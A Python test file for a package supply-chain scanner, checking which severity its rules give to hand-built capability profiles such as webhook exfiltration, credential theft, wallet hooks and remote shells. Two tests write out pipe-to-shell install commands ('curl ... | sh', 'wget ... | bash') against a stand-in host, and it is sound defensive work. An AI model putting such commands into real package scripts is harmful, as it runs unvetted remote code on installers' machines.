"""One verdict per package: the rules on hand-built profiles (scanner/verdict/rules.py)."""

from __future__ import annotations

from scanner.behaviour.model import Capability as C
from scanner.behaviour.model import Zone
from scanner.model import Severity
from scanner.pairing import ChangeKind
from scanner.verdict import PackageMetadata, judge
from tests.verdict.profiles import profile

PLAIN = profile({"index.js": []})


def test_a_postinstall_that_reads_the_environment_and_posts_it_to_a_webhook_is_critical() -> None:
    new = profile(
        {
            "index.js": [],
            "bundle.js": [
                (C.ENV_ALL, 3, "serialised"),
                (C.NETWORK, 9),
                (C.EXFIL_ENDPOINT, 9, "webhook.site"),
            ],
        },
        {"bundle.js": Zone.INSTALL},
        scripts={"postinstall": "node bundle.js"},
    )
    verdict = judge("pkg", "1.2.3", "1.2.4", PLAIN, new)
    assert verdict.severity is Severity.CRITICAL
    assert verdict.summary.startswith(
        "adds a postinstall script (`node bundle.js`) that runs bundle.js, which "
    )
    assert "serialises the whole environment" in verdict.summary
    assert "contacts webhook.site" in verdict.summary
    assert verdict.reasons[0].file == "bundle.js"


def test_code_that_moved_between_files_is_not_new_behaviour() -> None:
    old = profile({"index.js": [], "lib/http.js": [(C.NETWORK, 1), (C.PROCESS_SPAWN, 4)]})
    new = profile({"index.js": [(C.NETWORK, 10)], "lib/run.js": [(C.PROCESS_SPAWN, 2)]})
    verdict = judge("pkg", "1.2.3", "1.2.4", old, new)
    assert verdict.severity is Severity.INFO
    assert verdict.reasons == ()
    assert verdict.summary == "no new behaviour of note"


def test_first_network_access_from_an_entry_point_weighs_by_the_kind_of_release() -> None:
    new = profile({"index.js": [(C.NETWORK, 5)]})
    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, new).severity is Severity.HIGH
    assert judge("pkg", "1.2.3", "1.3.0", PLAIN, new).severity is Severity.MEDIUM
    assert judge("pkg", "1.2.3", "2.0.0", PLAIN, new).severity is Severity.MEDIUM
    elsewhere = profile({"index.js": [], "lib/x.js": [(C.NETWORK, 5)]}, {"lib/x.js": Zone.OTHER})
    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, elsewhere).severity is Severity.MEDIUM


def test_tests_benchmarks_and_types_never_make_a_capability_new() -> None:
    new = profile(
        {"index.js": [], "test/a.js": [(C.PROCESS_SPAWN, 1), (C.DECODED_EXEC, 2, "eval")]},
        {"test/a.js": Zone.TEST},
    )
    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, new).severity is Severity.INFO


def test_network_access_the_library_had_is_new_when_it_starts_running_at_install() -> None:
    old = profile({"index.js": [(C.NETWORK, 3)]})
    new = profile(
        {"index.js": [(C.NETWORK, 3)], "install.js": [(C.NETWORK, 2)]},
        {"install.js": Zone.INSTALL},
        scripts={"postinstall": "node install.js"},
    )
    verdict = judge("pkg", "1.2.3", "1.2.4", old, new)
    assert verdict.severity is Severity.HIGH
    assert verdict.reasons[0].rule == "install-risky-code"


def test_a_new_install_script_with_harmless_code_is_medium_and_says_what_it_runs() -> None:
    new = profile(
        {"index.js": [], "scripts/hello.js": []},
        {"scripts/hello.js": Zone.INSTALL},
        scripts={"postinstall": "node scripts/hello.js"},
    )
    verdict = judge("pkg", "1.2.3", "1.2.4", PLAIN, new)
    assert verdict.severity is Severity.MEDIUM
    assert verdict.summary == (
        "adds a postinstall script (`node scripts/hello.js`) that runs scripts/hello.js"
    )


def test_an_inline_download_in_a_script_is_high_even_with_no_package_file_involved() -> None:
    new = profile({"index.js": []}, scripts={"preinstall": "curl -s https://x.example/p | sh"})
    verdict = judge("pkg", "1.2.3", "1.2.4", PLAIN, new)
    assert verdict.severity is Severity.HIGH
    assert verdict.reasons[0].rule == "install-inline-download"


def test_obfuscation_newly_in_an_entry_point_of_an_update_is_high() -> None:
    new = profile({"index.js": [(C.OBFUSCATION, 1, "hex:4096:abc")]})
    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, new).severity is Severity.HIGH
    # The same blob the old version already had is not new.
    assert judge("pkg", "1.2.3", "1.2.4", new, new).severity is Severity.INFO


def test_decoded_data_that_is_executed_is_high_and_critical_with_decryption() -> None:
    loader = profile({"index.js": [(C.DECODED_EXEC, 4, "require")]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, loader).severity is Severity.HIGH
    payload = profile({"index.js": [(C.DECIPHER, 2), (C.DYNAMIC_CODE, 3)]})
    verdict = judge("pkg", "1.0.0", "1.0.1", PLAIN, payload)
    assert verdict.severity is Severity.CRITICAL
    assert verdict.reasons[0].rule == "decoded-exec"


def test_skimmer_and_wallet_hooks_are_high_and_critical_with_a_way_out() -> None:
    skimmer = profile({"index.js": [(C.SKIMMER, 7, "password")]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, skimmer).severity is Severity.HIGH
    wallet = profile({"index.js": [(C.WALLET_HOOK, 1, "ethereum-hook"), (C.NETWORK, 2)]})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, wallet).severity is Severity.CRITICAL


def test_a_new_package_that_replaces_fetch_is_medium_unless_it_hooks_a_wallet() -> None:
    polyfill = profile({"index.js": [(C.WALLET_HOOK, 1, "fetch-override")]})
    assert judge("next-like", None, "1.0.0", None, polyfill).severity is Severity.MEDIUM
    # In an update, a first-time fetch override is high: that is what the chalk/debug hijack did.
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, polyfill).severity is Severity.HIGH
    drainer = profile({"index.js": [(C.WALLET_HOOK, 1, "address-swap")]})
    assert judge("x", None, "1.0.0", None, drainer).severity is Severity.HIGH


def test_combinations_count_within_one_file_not_across_a_big_package() -> None:
    spread = profile(
        {
            "index.js": [],
            "lib/crypto.js": [(C.DECIPHER, 3)],
            "lib/template.js": [(C.DYNAMIC_CODE, 9)],
            "lib/config.js": [(C.CREDENTIAL_ACCESS, 2, ".npmrc")],
            "lib/http.js": [(C.EXFIL_ENDPOINT, 5, "webhook.site"), (C.NETWORK, 4)],
        },
        {
            p: Zone.OTHER
            for p in ("lib/crypto.js", "lib/template.js", "lib/config.js", "lib/http.js")
        },
    )
    verdict = judge("bundle", None, "1.0.0", None, spread)
    assert verdict.severity is Severity.MEDIUM
    assert [r.rule for r in verdict.reasons] == ["sensitive-target"]


def test_credential_files_read_by_code_that_reaches_a_webhook_is_critical() -> None:
    stealer = profile(
        {
            "index.js": [
                (C.CREDENTIAL_ACCESS, 3, "Discord Local Storage"),
                (C.EXFIL_ENDPOINT, 8, "discord webhook"),
                (C.NETWORK, 8),
            ]
        }
    )
    verdict = judge("pkg", "2.0.0", "3.0.0", PLAIN, stealer)
    assert verdict.severity is Severity.CRITICAL
    assert "reads Discord Local Storage" in verdict.summary


def test_a_binary_in_a_package_that_never_had_one_is_high_but_a_platform_package_is_not() -> None:
    old_platform = profile({}, binaries=["bin/esbuild"], os=["linux"])
    new_platform = profile({}, binaries=["bin/esbuild", "bin/esbuild-2"], os=["linux"])
    verdict = judge("@esbuild/linux-x64", "0.1.0", "0.2.0", old_platform, new_platform)
    assert verdict.severity is Severity.INFO
    with_dll = profile({"index.js": []}, binaries=["lib/helper.dll"])
    verdict = judge("rc", "1.2.8", "1.2.9", PLAIN, with_dll)
    assert verdict.severity is Severity.HIGH
    assert "the previous version had none" in verdict.summary


def test_a_downgrade_is_low_and_not_judged_as_an_upgrade() -> None:
    verdict = judge("signal-exit", "4.1.0", "3.0.7", PLAIN, PLAIN, kind=ChangeKind.DOWNGRADE)
    assert verdict.severity is Severity.LOW
    assert verdict.kind is ChangeKind.DOWNGRADE
    assert verdict.summary.startswith("downgrade from 4.1.0 to 3.0.7")


def test_a_new_package_with_ordinary_capabilities_is_unremarkable() -> None:
    client = profile({"index.js": [(C.NETWORK, 1), (C.ENV_NAMED, 2), (C.PROCESS_SPAWN, 9)]})
    verdict = judge("axios-like", None, "1.0.0", None, client)
    assert verdict.kind is ChangeKind.NEW
    assert verdict.severity is Severity.INFO


def test_a_new_package_whose_history_always_ran_its_install_script_is_not_high() -> None:
    installer = profile(
        {"index.js": [], "install.js": [(C.NETWORK, 3), (C.PROCESS_SPAWN, 5)]},
        {"install.js": Zone.INSTALL},
        scripts={"postinstall": "node install.js"},
    )
    long_standing = PackageMetadata(
        version_count=300, earlier_install_scripts=290, earlier_versions=299
    )
    verdict = judge("esbuild", None, "0.25.0", None, installer, metadata=long_standing)
    assert verdict.severity is Severity.MEDIUM
    assert "as 290 of its 299 earlier versions did" in verdict.summary
    first_time = PackageMetadata(version_count=300, earlier_install_scripts=0, earlier_versions=299)
    assert judge("x", None, "1.0.0", None, installer, metadata=first_time).severity is Severity.HIGH


def test_a_new_package_named_like_a_popular_one_that_runs_an_install_script_is_high() -> None:
    installer = profile({"index.js": []}, scripts={"postinstall": "node-gyp rebuild"})
    meta = PackageMetadata(version_count=1, similar_to="lodash")
    verdict = judge("lodahs", None, "1.0.0", None, installer, metadata=meta)
    assert verdict.severity is Severity.HIGH
    assert any("popular package lodash" in r.text for r in verdict.reasons)
    quiet = PackageMetadata(version_count=2, similar_to="lodash")
    assert judge("lodahs", None, "1.0.0", None, PLAIN, metadata=quiet).severity is Severity.MEDIUM
    # A look-alike name with a long release history is a real package (preact, through2).
    established = PackageMetadata(version_count=40, similar_to="react")
    assert judge("preact", None, "10.0.0", None, PLAIN, metadata=established).reasons == ()


def test_the_environment_forwarded_to_a_child_and_writes_to_temp_do_not_weigh() -> None:
    builder = profile(
        {
            "index.js": [],
            "install.js": [(C.ENV_ALL, 3, "spread"), (C.FILE_WRITE, 5, "temp")],
        },
        {"install.js": Zone.INSTALL},
        scripts={"postinstall": "node install.js"},
    )
    verdict = judge("pkg", "1.2.3", "1.2.4", PLAIN, builder)
    assert [r.rule for r in verdict.reasons] == ["install-script"]
    assert {s.capability for s in verdict.signals} == {C.ENV_ALL, C.FILE_WRITE}  # still shown
    persistence = profile(
        {"index.js": [], "install.js": [(C.FILE_WRITE, 5, "home")]},
        {"install.js": Zone.INSTALL},
        scripts={"postinstall": "node install.js"},
    )
    assert judge("pkg", "1.2.3", "1.2.4", PLAIN, persistence).severity is Severity.HIGH


def test_a_script_that_pipes_a_download_into_a_shell_is_high_but_inline_node_is_analysed() -> None:
    inline = profile({"index.js": []}, scripts={"postinstall": "node -e \"require('./x')\""})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, inline).reasons[0].rule == "install-script"
    piped = profile({"index.js": []}, scripts={"preinstall": "wget -qO- https://x.example | bash"})
    assert judge("pkg", "1.0.0", "1.0.1", PLAIN, piped).severity is Severity.HIGH


def test_a_shell_wired_to_a_socket_is_a_remote_shell_even_in_a_new_package() -> None:
    backdoor = profile(
        {
            "index.js": [],
            "lib/update-check.js": [(C.PROCESS_SPAWN, 8, "shell:sh"), (C.NETWORK, 4, "net")],
        },
        {"lib/update-check.js": Zone.ENTRY},
    )
    verdict = judge("taskweave-cli", None, "1.0.0", None, backdoor)
    assert verdict.severity is Severity.HIGH
    assert verdict.reasons[0].rule == "remote-shell"
    # A shell and HTTP in one file, or a shell and a socket in different files, are not that.
    apart = profile(
        {"index.js": [(C.PROCESS_SPAWN, 8, "shell:sh")], "lib/x.js": [(C.NETWORK, 4, "net")]}
    )
    assert judge("tool", None, "1.0.0", None, apart).severity is Severity.INFO


def test_a_loader_in_a_package_with_no_history_is_high_and_with_history_is_not() -> None:
    loader = profile({"index.js": [(C.DYNAMIC_CODE, 9, "remote-script")]})
    no_history = PackageMetadata(version_count=3)
    verdict = judge("connect-widget-kit", None, "1.1.7", None, loader, metadata=no_history)
    assert (verdict.severity, verdict.reasons[0].rule) == (Severity.HIGH, "unvouched-loader")
    history = PackageMetadata(version_count=80)
    assert judge("stripe-js", None, "4.0.0", None, loader, metadata=history).reasons == ()
